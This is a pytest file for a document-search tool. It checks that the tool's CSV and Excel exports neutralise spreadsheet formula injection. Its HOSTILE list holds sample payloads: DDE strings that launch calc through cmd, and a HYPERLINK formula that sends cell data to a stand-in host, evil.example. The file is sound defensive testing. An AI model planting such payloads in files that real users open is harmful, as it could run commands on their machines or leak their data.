"""Files for Excel are safe to open (issue 18, A2): a CSV text cell that starts like a
formula gets a leading ``'`` (OWASP), numbers stay numbers, and ``.xlsx`` text is
always a string cell, never a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

import simsearch
from simsearch.tables.write import FORMULA_START, csv_cell, write_frame, write_sheets

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_safe(path) -> int:
    """Every cell of the CSV at ``path`` that starts like a formula is a number; returns
    how many neutralised cells (leading ``'``) the file holds."""
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    quoted = 0
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or _is_number(cell), (path, cell)
            quoted += cell.startswith("'") and cell[1:].startswith(FORMULA_START)
    return quoted


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_gets_a_leading_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", [-0.12, 3, None, float("nan"), "-0.12", "+5", "1e-3", "제목", "a=b", "", "'=x"]
)
def test_numbers_and_plain_text_are_kept(value):
    out = csv_cell(value)
    assert out is value or (out != out and value != value)


def test_write_sheets_neutralises_text_keeps_numbers(tmp_path):
    frame = pd.DataFrame(
        {"=title": HOSTILE, "score": [-0.12] * len(HOSTILE), "n": range(len(HOSTILE))}
    )
    frame.loc[0, "=title"] = None  # a missing cell stays empty
    path = write_frame(frame, tmp_path / "x.csv")
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert list(back.columns) == ["'=title", "score", "n"]
    assert back["'=title"].isna()[0]
    assert back["'=title"][1:].tolist() == ["'" + v for v in HOSTILE[1:]]
    assert back["score"].dtype == float and back["score"].tolist() == [-0.12] * len(HOSTILE)
    assert frame.loc[1, "=title"] == HOSTILE[1]  # the caller's frame is untouched


def test_xlsx_text_is_never_a_formula(tmp_path):
    frame = pd.DataFrame({"title": HOSTILE, "score": [-0.12] * len(HOSTILE)})
    path = write_sheets({"results": frame}, tmp_path / "x.xlsx")[0]
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
    import openpyxl

    cells = list(openpyxl.load_workbook(path).active.iter_rows(min_row=2, values_only=False))
    assert [row[0].data_type for row in cells] == ["s"] * len(HOSTILE)
    # The text exactly, no quote added (a carriage return is stored as Excel's escape,
    # _x000D_, which Excel reads back as the character).
    expected = [v.replace("\r", "_x000D_") for v in HOSTILE]
    assert [row[0].value for row in cells] == expected
    assert [row[1].value for row in cells] == [-0.12] * len(HOSTILE)


@pytest.fixture
def hostile_index(workdir):
    rng = np.random.default_rng(3)
    n = 24
    emb = rng.standard_normal((n, 8)).astype(np.float32)
    emb[12] = emb[4] * 1.001  # a duplicate pair, for dedup
    titles = [HOSTILE[i % len(HOSTILE)] for i in range(n)]
    texts = [f"{HOSTILE[i % len(HOSTILE)]} 문서 {i}" for i in range(n)]
    pd.DataFrame({"title": titles, "text": texts}).to_excel(workdir / "src.xlsx", index=False)
    np.save(workdir / "e.npy", emb)
    simsearch.build_index(workdir / "src.xlsx", "text", embeddings=workdir / "e.npy", model="x")
    return workdir


@pytest.mark.parametrize(
    "args",
    [
        ["similar", "--doc", "4", "--k", "20", "--show", "title", "--mode", "dense", "-o"],
        ["neighbors", "--k", "3", "--show", "title", "-q", "-o"],
        ["dedup", "-t", "0.99", "--show", "title", "-q", "-o"],
    ],
)
def test_csv_outputs_are_safe_for_excel(hostile_index, args):
    from simsearch.cli.typer_app import app

    result = CliRunner().invoke(app, [*args, "out.csv"])
    assert result.exit_code == 0, result.output
    written = sorted(hostile_index.glob("out*.csv"))
    assert written
    assert sum(_assert_safe(path) for path in written) > 0
    if args[0] == "similar":  # negative similarities stay numbers, rows stay in order
        back = pd.read_csv(hostile_index / "out.csv", encoding="utf-8-sig")
        assert (back["similarity"] < 0).any() and back["similarity"].dtype == float
        assert back["row"].tolist() == simsearch.similar(4, k=20, mode="dense")["row"].tolist()


def test_csv_on_stdout_is_exact_for_programs(hostile_index):
    from simsearch.cli.typer_app import app

    result = CliRunner().invoke(app, ["similar", "--doc", "4", "--k", "3", "-f", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert all(r["text"].startswith(FORMULA_START) for r in rows)  # no quote added
